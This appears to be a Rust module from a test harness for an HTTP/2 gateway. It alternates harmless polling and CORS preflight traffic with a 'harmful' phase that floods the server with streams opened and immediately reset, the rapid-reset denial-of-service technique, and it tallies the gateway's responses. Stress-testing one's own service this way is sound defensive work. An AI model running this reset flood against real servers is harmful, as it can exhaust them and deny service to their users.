//! Connections of HTTP/2 that open streams and reset them, or ask for what is harmless.

use std::net::SocketAddr;
use std::time::Duration;

use bytes::Bytes;
use h2::Reason;
use h2::client::{SendRequest, handshake};
use http::{HeaderValue, Method, Request};
use tokio::net::TcpSocket;
use tokio::task::JoinSet;
use tokio::time::{MissedTickBehavior, interval};

use super::{AttackPhase, SharedTally};

/// How many there are.
pub const CONNECTIONS: u32 = 3;
/// The origin of a page that may read streams and polls.
pub const PAGE: &str = "http://app.example";
/// From one stream of a connection to its next. All together they ask for more than `limits.rate`
/// lets in.
const EVERY: Duration = Duration::from_micros(1_400);
/// Requests of a connection that wait for their answers.
const AT_ONCE: usize = 90;
/// Of so many harmless requests one is a poll, the other a preflight. Each poll takes a turn of
/// `limits.rate`: were all of them polls, they would be over it, and wait or be refused.
const POLLS: usize = 2;

/// Opens one after the other, on a new connection if the gateway ends one.
pub async fn repeat(to: SocketAddr, phase: AttackPhase, tally: SharedTally) {
    let mut pace = interval(EVERY * phase.divisor);
    pace.set_missed_tick_behavior(MissedTickBehavior::Burst);
    loop {
        let _tick = pace.tick().await;
        if converse(to, phase, &tally, &mut pace).await.is_none() {
            tally.add("connection ended");
        }
    }
}

async fn converse(
    to: SocketAddr,
    phase: AttackPhase,
    tally: &SharedTally,
    pace: &mut tokio::time::Interval,
) -> Option<()> {
    let socket = TcpSocket::new_v4().ok()?;
    socket.bind(SocketAddr::from((phase.source(), 0))).ok()?;
    let (mut sender, connection) = handshake(socket.connect(to).await.ok()?).await.ok()?;
    let mut tasks = JoinSet::new();
    tasks.spawn(async { drop(connection.await) });
    for number in 0.. {
        pace.tick().await;
        sender = sender.ready().await.ok()?;
        tally.begin();
        if phase.is_harmful {
            reset_one(&mut sender, to)?;
            tally.add("reset");
            continue;
        }
        let (answer, _) = sender.send_request(harmless(to, number)?, true).ok()?;
        let tally = tally.clone();
        tasks.spawn(async move {
            match answer.await {
                Ok(answer) => tally.add(answer.status().as_str()),
                Err(_) => tally.add("failed"),
            }
        });
        while tasks.len() > AT_ONCE {
            tasks.join_next().await;
        }
        while tasks.try_join_next().is_some() {}
    }
    None
}

/// A poll, or what a browser asks before a page of another origin may.
fn harmless(to: SocketAddr, number: usize) -> Option<Request<()>> {
    let poll = request(to, "/v1/poll?topic=t/00000")?;
    if number.is_multiple_of(POLLS) {
        return Some(poll);
    }
    let (mut head, ()) = poll.into_parts();
    head.method = Method::OPTIONS;
    head.headers.insert("origin", HeaderValue::from_static(PAGE));
    head.headers.insert("access-control-request-method", HeaderValue::from_static("GET"));
    Some(Request::from_parts(head, ()))
}

fn reset_one(sender: &mut SendRequest<Bytes>, to: SocketAddr) -> Option<()> {
    let (_, mut stream) = sender.send_request(request(to, "/v1/events?topic=t/00000")?, true).ok()?;
    stream.send_reset(Reason::CANCEL);
    Some(())
}

fn request(to: SocketAddr, target: &str) -> Option<Request<()>> {
    Request::get(format!("http://{to}{target}")).body(()).ok()
}
